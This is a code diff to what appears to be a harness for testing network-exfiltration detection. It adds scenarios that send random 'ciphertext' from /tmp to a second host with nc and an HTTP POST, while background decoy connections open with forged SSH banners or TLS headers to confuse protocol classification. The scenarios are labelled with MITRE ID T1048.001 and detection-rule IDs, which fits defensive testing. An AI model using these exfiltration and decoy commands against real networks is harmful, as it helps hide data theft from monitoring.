@@ -560,6 +560,34 @@ def _cw_dns(ctx: Ctx) -> None:
     ctx.exec(f"{put('/tmp/.d.pl', DNS_PL)}; perl /tmp/.d.pl {SINK_IP} 5353 40")
 
 
+def decoys(host: str, port: int, first: str, times: int = 12) -> str:
+    """Shell: connections to host:port in the background, every 0.3 s,
+    each sending `first` (printf escapes) and closing: whenever the
+    exfiltration runs beside them, the latest socket to start towards that
+    destination named another protocol."""
+    return (
+        f"(i=0; while [ $i -lt {times} ]; do printf '{first}' | nc {host} {port}; i=$((i+1)); usleep 300000; done) & "
+    )
+
+
+def _cw_decoy_ssh(ctx: Ctx) -> None:
+    ctx.exec(
+        "head -c 400000 /dev/urandom > /tmp/.q; "
+        + decoys(SECOND_IP, 8081, "SSH-2.0-OpenSSH_9.6\\r\\n")
+        + "usleep 500000; "
+        + http_post(SECOND_IP, 8081, "/tmp/.q", "/sync")
+        + "; wait"
+    )
+
+
+def _cw_decoy_tls(ctx: Ctx) -> None:
+    ctx.exec(
+        "head -c 600000 /dev/urandom > /tmp/.r; "
+        + decoys(SECOND_IP, 443, "\\026\\003\\001\\000\\005hello")
+        + f"usleep 500000; nc {SECOND_IP} 443 < /tmp/.r; wait"
+    )
+
+
 # --- compromised twins of the container-mode attacks ------------------------------
 # The same goal as each container-mode attack, reached from a shell in the
 # web application with what it has (busybox, perl, its data volume, the
@@ -718,6 +746,22 @@ COMPROMISED: tuple[Scenario, ...] = tuple(
             ("SL-EXF-003",),
             "hex-encoded ciphertext in DNS query names, sent to port 5353 (perl)",
             _cw_dns,
+        ),
+        (
+            "cw-decoy-ssh-banner",
+            "T1048.001",
+            ("SL-EXF-003",),
+            "400 KB of ciphertext POSTed over plain HTTP to port 8081 while decoy connections to the same "
+            "port open with an SSH banner",
+            _cw_decoy_ssh,
+        ),
+        (
+            "cw-decoy-tls-hello",
+            "T1048.001",
+            ("SL-EXF-002",),
+            "600 KB of ciphertext streamed raw to port 443 while decoy connections to the same port open "
+            "with a TLS record header",
+            _cw_decoy_tls,
         ),
     )
 )
